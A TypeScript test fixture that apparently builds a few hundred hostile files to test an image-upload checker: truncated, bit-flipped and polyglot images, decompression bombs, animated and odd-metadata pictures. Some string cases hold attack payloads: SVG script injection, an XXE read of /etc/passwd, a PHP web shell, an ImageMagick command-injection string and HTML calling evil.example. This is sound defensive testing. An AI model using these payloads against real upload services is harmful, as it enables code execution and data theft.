import sharp from 'sharp';
import { bombs, type Hostile, PNG_START, pngChunk, webpHeader } from './picture-bombs.ts';
import { drawing } from './pictures.ts';

const KIND = ['image_kind'] as const;
const BROKEN = ['image_unreadable'] as const;
const MOVING = ['image_animated'] as const;

/**
 * Some three hundred files that only an attacker would send, always the same ones.
 * @param times as many pictures ended early and with flipped bits: ten make more than two thousand files
 */
export async function hostilePictures(times = 1): Promise<Hostile[]> {
  const [jpeg, png, webp] = await Promise.all([
    drawing().jpeg().toBuffer(),
    drawing().png().toBuffer(),
    drawing().webp().toBuffer(),
  ]);
  const valid = { jpeg, png, webp };
  return [
    ...notPictures(),
    ...Object.entries(valid).flatMap(([kind, bytes]) => [
      ...truncated(kind, bytes, times),
      ...polyglots(kind, bytes),
      ...flipped(kind, bytes, times),
    ]),
    ...bombs(png),
    ...(await moving(png)),
    ...(await odd(jpeg)),
  ];
}

function notPictures(): Hostile[] {
  const texts: Record<string, string> = {
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    'svg with a prologue':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    html: '<!doctype html><script>fetch("//evil.example")</script>',
    'gif as text': 'GIF89a<script>alert(1)</script>',
    pdf: '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj',
    postscript: '%!PS-Adobe-3.0\n(/etc/passwd) run',
    'image magick script':
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.example/"|id")\'\npop graphic-context',
    json: '{"image":"data:image/png;base64,AAAA"}',
    'a portable pixel map': 'P6 1 1 255 \u0001\u0002\u0003',
    'a shell script': '#!/bin/sh\nid',
    'a PHP script': '<?php system($_GET["x"]);',
    XBM: '#define x_width 16\n#define x_height 16\nstatic char x_bits[] = {0};',
    blanks: '   \n\t ',
    'one letter': 'x',
  };
  const hex: Record<string, string> = {
    gif: '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
    'tiff, little end first': '49492a0008000000000000000000',
    'tiff, big end first': '4d4d002a00000008000000000000',
    bmp: '424d3a0000000000000036000000280000000100000001000000010018000000000004000000',
    ico: '00000100010001010000010018003000000016000000',
    zip: '504b0304140000000000',
    gzip: '1f8b0800000000000003',
    elf: '7f454c4602010100',
    'jpeg xl': 'ff0a0000',
    'jpeg 2000': '0000000c6a5020200d0a870a',
    heic: '000000186674797068656963000000006d69663168656963',
    avif: '000000206674797061766966000000006176696600000000',
    psd: '384250530001000000000000',
    'half a PNG signature': '89504e47',
    'RIFF that is no WebP': '524946460400000057415645',
    'a JPEG start, without its third byte': 'ffd8',
  };
  return [
    { name: 'nothing', bytes: Buffer.alloc(0), expect: BROKEN },
    { name: 'a megabyte of zeros', bytes: Buffer.alloc(1 << 20), expect: KIND },
    { name: 'a megabyte of ones', bytes: Buffer.alloc(1 << 20, 0xff), expect: KIND },
    ...Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text), expect: KIND })),
    ...Object.entries(hex).map(([name, digits]) => ({ name, bytes: Buffer.from(digits, 'hex'), expect: KIND })),
    { name: 'only the start of a JPEG', bytes: Buffer.from('ffd8ff', 'hex'), expect: BROKEN },
    { name: 'JPEG of markers alone', bytes: Buffer.from('ffd8ffd9', 'hex'), expect: BROKEN },
    { name: 'only the start of a PNG', bytes: PNG_START, expect: BROKEN },
    { name: 'only the start of a WebP', bytes: Buffer.from('524946460400000057454250', 'hex'), expect: BROKEN },
    {
      name: 'a PNG start and HTML',
      bytes: Buffer.concat([PNG_START, Buffer.from('<script>alert(1)</script>')]),
      expect: BROKEN,
    },
    {
      name: 'a JPEG start and HTML',
      bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from('<script>')]),
      expect: BROKEN,
    },
  ];
}

/** Ended early at many places. Right before its end a picture may still be whole. */
function truncated(kind: string, bytes: Buffer, times: number): Hostile[] {
  const places = Array.from({ length: 24 * times }, (_, at) => Math.floor(((at + 1) * bytes.length) / (26 * times)));
  // The first twelve bytes tell the kind.
  const lengths = new Set([12, 13, 20, 33, ...places.filter((place) => place >= 12)]);
  return [...lengths].map((length) => ({
    name: `${kind} ended after ${length} bytes`,
    bytes: bytes.subarray(0, length),
    expect: BROKEN,
  }));
}

/** A picture that another reader takes for another kind of file. Only the picture is kept. */
function polyglots(kind: string, bytes: Buffer): Hostile[] {
  const tails = {
    HTML: '<html><script>alert(document.domain)</script></html>',
    ZIP: 'PK\u0003\u0004payload-of-a-zipPK\u0005\u0006' + '\0'.repeat(18),
    PHP: '<?php system($_GET["x"]); ?>',
    PDF: '%PDF-1.7\n%%EOF',
    'a second picture': bytes,
    'a megabyte': Buffer.alloc(1 << 20, 'payload'),
  };
  return Object.entries(tails).map(([name, tail]) => ({
    name: `${kind} and ${name}`,
    bytes: Buffer.concat([bytes, Buffer.from(tail)]),
    expect: 'kept',
  }));
}

function flipped(kind: string, bytes: Buffer, times: number): Hostile[] {
  const random = generator(bytes.length);
  return Array.from({ length: 40 * times }, (_, round) => {
    const bent = Buffer.from(bytes);
    // A few bits in some, many in others, in the first bytes more than elsewhere.
    for (let flip = 0; flip < 1 + (round % 40) * 2; flip += 1) {
      const at = Math.floor(random() ** 2 * (bytes.length - 12)) + 12;
      bent[at] = bent[at]! ^ (1 << Math.floor(random() * 8));
    }
    return { name: `${kind} with flipped bits, ${round}`, bytes: bent, expect: 'either' };
  });
}

/** The same numbers each time (mulberry32). */
function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

async function moving(png: Buffer): Promise<Hostile[]> {
  const frames = await Promise.all(
    ['#c57', '#57c', '#7c5'].map((background) =>
      sharp({ create: { width: 20, height: 20, channels: 3, background } })
        .png()
        .toBuffer(),
    ),
  );
  const animatedWebp = await sharp(frames, { join: { animated: true } })
    .webp({ delay: [100, 100, 100] })
    .toBuffer();
  const control = Buffer.alloc(8);
  control.writeUInt32BE(2);
  const animatedPng = Buffer.concat([png.subarray(0, 33), pngChunk('acTL', control), png.subarray(33)]);
  const hidden = Buffer.concat([
    png.subarray(0, 33),
    pngChunk('tEXt', Buffer.from('a\0b')),
    pngChunk('acTL', control),
    png.subarray(33),
  ]);
  return [
    { name: 'an animated PNG', bytes: animatedPng, expect: MOVING },
    { name: 'an animated PNG behind a text', bytes: hidden, expect: MOVING },
    { name: 'an animated WebP', bytes: animatedWebp, expect: MOVING },
    {
      name: 'an animated WebP ended early',
      bytes: animatedWebp.subarray(0, animatedWebp.length - 30),
      expect: [...MOVING, ...BROKEN],
    },
    { name: 'a WebP that only says it moves', bytes: webpHeader(20, 20, 2), expect: [...MOVING, ...BROKEN] },
  ];
}

/** Unusual files, some of them as real cameras and programs write them. */
async function odd(jpeg: Buffer): Promise<Hostile[]> {
  const place = {
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '24/1 53/1 0/1', GPSLongitudeRef: 'E' },
    IFD0: { Make: 'Secret camera' },
  };
  const segment = (marker: number, content: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(content.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
  };
  const exif = (text: string) => segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), Buffer.from(text, 'latin1')]));
  const kept: [string, Promise<Buffer> | Buffer][] = [
    ['a JPEG with the place where it was taken', drawing().jpeg().withExif(place).toBuffer()],
    ['a PNG with the place where it was taken', drawing().png().withExif(place).toBuffer()],
    ['a WebP with the place where it was taken', drawing().webp().withExif(place).toBuffer()],
    ['a JPEG in the colours of a printer', drawing().toColourspace('cmyk').jpeg().toBuffer()],
    ['a PNG of 16 bits', drawing().toColourspace('rgb16').png().toBuffer()],
    ['a grey JPEG', drawing().greyscale().jpeg().toBuffer()],
    ['a grey PNG of one bit', drawing().greyscale().threshold().png({ colours: 2 }).toBuffer()],
    ['a PNG with a palette', drawing().png({ palette: true }).toBuffer()],
    ['an interlaced PNG', drawing().png({ progressive: true }).toBuffer()],
    ['a progressive JPEG', drawing().jpeg({ progressive: true }).toBuffer()],
    [
      'a transparent PNG',
      sharp({ create: { width: 30, height: 30, channels: 4, background: '#0000' } })
        .png()
        .toBuffer(),
    ],
    [
      'a transparent WebP',
      sharp({ create: { width: 30, height: 30, channels: 4, background: '#f008' } })
        .webp({ lossless: true })
        .toBuffer(),
    ],
    [
      'one pixel',
      sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
    ],
    [
      'a line, 20000 × 1',
      sharp({ create: { width: 20_000, height: 1, channels: 3, background: '#c57' } })
        .png()
        .toBuffer(),
    ],
    [
      'a column, 1 × 20000',
      sharp({ create: { width: 1, height: 20_000, channels: 3, background: '#c57' } })
        .png()
        .toBuffer(),
    ],
    [
      'noise',
      sharp({
        create: {
          width: 640,
          height: 640,
          channels: 3,
          background: '#000',
          noise: { type: 'gaussian', mean: 128, sigma: 90 },
        },
      })
        .png()
        .toBuffer(),
    ],
    ['a JPEG with a profile of wide colours', drawing().jpeg().withIccProfile('p3').toBuffer()],
    [
      'a JPEG with junk for a profile',
      segment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\u0001\u0001', 'latin1'), Buffer.alloc(500, 0xaa)])),
    ],
    ['a JPEG with a script for a comment', segment(0xfe, Buffer.from('<script>alert(1)</script>'))],
    ['a JPEG whose Exif is no Exif', exif('II*\0garbage garbage garbage')],
    [
      'a JPEG whose Exif points at itself',
      exif('II*\0\u0008\0\0\0\u0001\0\u0012\u0001\u0003\0\u0001\0\0\0\u0006\0\0\0\u0008\0\0\0'),
    ],
    ['a JPEG whose Exif has a million entries', exif('II*\0\u0008\0\0\0\u00ff\u00ff' + 'x'.repeat(60_000))],
    ['a JPEG turned every way', drawing().jpeg().withMetadata({ orientation: 5 }).toBuffer()],
    [
      'a JPEG turned in no way there is',
      exif('II*\0\u0008\0\0\0\u0001\0\u0012\u0001\u0003\0\u0001\0\0\0\u0063\0\0\0\0\0\0\0'),
    ],
  ];
  const files = await Promise.all(kept.map(async ([name, bytes]) => ({ name, bytes: await bytes })));
  return files.map((file) => ({ ...file, expect: 'kept' }));
}
